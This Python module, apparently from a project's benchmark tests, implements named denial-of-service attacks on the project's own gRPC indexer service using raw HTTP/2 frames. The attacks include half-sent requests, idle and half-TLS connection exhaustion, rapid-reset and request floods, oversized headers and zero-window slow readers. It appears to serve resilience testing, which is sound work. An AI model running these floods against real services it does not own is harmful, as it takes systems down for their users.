"""
Attacks on the gRPC address, by raw HTTP/2 frames: `python -m tests.benchmarks.strangers.attacks NAME ADDRESS`.

Each prints `ready` when its connections stand, and goes on until it is killed.
"""

import argparse
import asyncio
import contextlib
import dataclasses
import sys
from collections.abc import Awaitable, Callable

from indexer_service.v1 import indexer_pb2 as pb
from tests import http2

API = "/indexer_service.v1.IndexerService/"
HEALTH = "/grpc.health.v1.Health/"
LIMIT = 100
"""Streams that the service allows on a connection."""
MIB = 1 << 20
CHUNK = b"a" * 16_384
"""The longest payload of a frame that every server accepts (RFC 9113, section 4.2)."""
BATCH = 200
"""Calls that a flood sends between two looks at what the server answers."""
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01" + b"h" * 100
"""The beginning of a handshake that announces 512 bytes."""
CONNECT = 3.0


@dataclasses.dataclass(slots=True)
class Peer:
    """One connection of an attacker."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    gone: bool = False

    async def send(self, data: bytes) -> None:
        """Send, unless the server has closed the connection."""
        if not self.gone:
            self.writer.write(data)
            await self.writer.drain()

    async def answer(self) -> None:
        """Answer settings and pings until the server closes the connection."""
        buffer = bytearray()
        while data := await self.reader.read(65_536):
            buffer += data
            self.writer.write(http2.replies(buffer)[0])
        self.gone = True


Attack = Callable[["Target"], Awaitable[None]]


@dataclasses.dataclass(slots=True)
class Target:
    """The service that is attacked, and the connections to it."""

    host: str
    port: int
    token: str = ""
    user_id: str = ""
    tasks: set[asyncio.Task[None]] = dataclasses.field(default_factory=set)
    peers: list[Peer] = dataclasses.field(default_factory=list)

    async def connect(self, opening: bytes) -> Peer:
        """Open a connection, which goes on answering."""
        async with asyncio.timeout(CONNECT):
            peer = Peer(*await asyncio.open_connection(self.host, self.port))
        self.peers.append(peer)
        self.start(peer.answer())
        await peer.send(opening)
        return peer

    def start(self, work: Awaitable[None]) -> None:
        """Run until the connection is lost or the process ends."""

        async def guarded() -> None:
            with contextlib.suppress(OSError, TimeoutError):
                await work

        task = asyncio.ensure_future(guarded())
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)


async def _half_sent(target: Target, connections: int, streams: int, size: int, path: str) -> None:
    """Send requests without their last byte."""

    async def one() -> None:
        peer = await target.connect(http2.opening())
        numbers = range(1, 2 * streams, 2)
        for number in numbers:
            await peer.send(http2.headers(number, path) + http2.message(number, b"", length=size, flags=0))
        for _ in range(max(1, size // len(CHUNK)) - 1):
            for number in numbers:
                await peer.send(http2.frame(http2.DATA, 0, number, CHUNK))

    for _ in range(connections):
        target.start(one())


async def _open_streams(target: Target, connections: int, streams: int, path: str) -> None:
    """Send whole requests for streams."""
    body = pb.WatchProgressRequest(user_id="100000000000000001").SerializeToString() if path.startswith(API) else b""
    for _ in range(connections):
        peer = await target.connect(http2.opening())
        for number in range(1, 2 * streams, 2):
            await peer.send(http2.headers(number, path) + http2.message(number, body))


async def _do_nothing(target: Target, connections: int, opening: bytes) -> None:
    """Open connections and send nothing more; open those again that the server closes."""
    for _ in range(connections):
        with contextlib.suppress(OSError, TimeoutError):
            await target.connect(opening)


async def _flood(target: Target, connections: int, call: Callable[[int], bytes]) -> None:
    """Send calls as fast as the server takes them."""

    async def one() -> None:
        while True:
            peer = await target.connect(http2.opening())
            number = 1
            while not peer.gone:
                await peer.send(b"".join(call(number + 2 * place) for place in range(BATCH)))
                number += 2 * BATCH
                await asyncio.sleep(0)

    for _ in range(connections):
        target.start(one())


def _reset_call(number: int) -> bytes:
    return http2.headers(number, f"{API}ListChannels") + http2.reset(number)


def _whole_call(number: int) -> bytes:
    return http2.headers(number, f"{API}ListChannels") + http2.message(number, b"")


def _health_call(number: int) -> bytes:
    return http2.headers(number, f"{HEALTH}Check") + http2.message(number, b"")


async def _large_headers(target: Target) -> None:
    """Send headers of 7 KB, just below the limit, on all streams of several connections."""
    for _ in range(8):
        peer = await target.connect(http2.opening())
        for number in range(1, 2 * LIMIT, 2):
            await peer.send(http2.headers(number, f"{API}ListChannels", [("x-large", "h" * 7000)]))


async def _slow_readers(target: Target) -> None:
    """Read with a token, and take no byte of the responses."""
    body = pb.ListChannelsRequest(user_id=target.user_id, page_size=500).SerializeToString()
    token = [("authorization", f"Bearer {target.token}")]
    for _ in range(8):
        peer = await target.connect(http2.opening(window=0))
        for number in range(1, 2 * LIMIT, 2):
            await peer.send(http2.headers(number, f"{API}ListChannels", token) + http2.message(number, body))


ATTACKS: dict[str, Attack] = {
    "half-sent": lambda to: _half_sent(to, 4, 200, MIB, f"{API}ListChannels"),
    "half-sent-wide": lambda to: _half_sent(to, 100, LIMIT, 65_536, f"{API}ListChannels"),
    "half-sent-health": lambda to: _half_sent(to, 40, LIMIT, 65_536, f"{HEALTH}Check"),
    "health-watchers": lambda to: _open_streams(to, 40, LIMIT, f"{HEALTH}Watch"),
    "watchers": lambda to: _open_streams(to, 40, LIMIT, f"{API}WatchProgress"),
    "idle": lambda to: _do_nothing(to, 900, b""),
    "preface": lambda to: _do_nothing(to, 900, http2.opening()),
    "half-tls": lambda to: _do_nothing(to, 900, CLIENT_HELLO),
    "rapid-reset": lambda to: _flood(to, 1, _reset_call),
    "rapid-reset-8": lambda to: _flood(to, 8, _reset_call),
    "flood": lambda to: _flood(to, 1, _whole_call),
    "health-flood": lambda to: _flood(to, 1, _health_call),
    "large-headers": _large_headers,
    "slow-readers": _slow_readers,
}
"""Attacks by name; `half-tls` needs a service with TLS, `slow-readers` a token."""


async def attack(name: str, target: Target) -> None:
    """Attack until cancelled."""
    await ATTACKS[name](target)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    await asyncio.Event().wait()


def main() -> None:
    """Attack until killed."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--token", default="", help="of the attacks that need one")
    parser.add_argument("--user", default="", help="whose channels these read")
    options = parser.parse_args()
    host, _, port = options.address.rpartition(":")
    asyncio.run(attack(options.name, Target(host, int(port), options.token, options.user)))


if __name__ == "__main__":
    main()
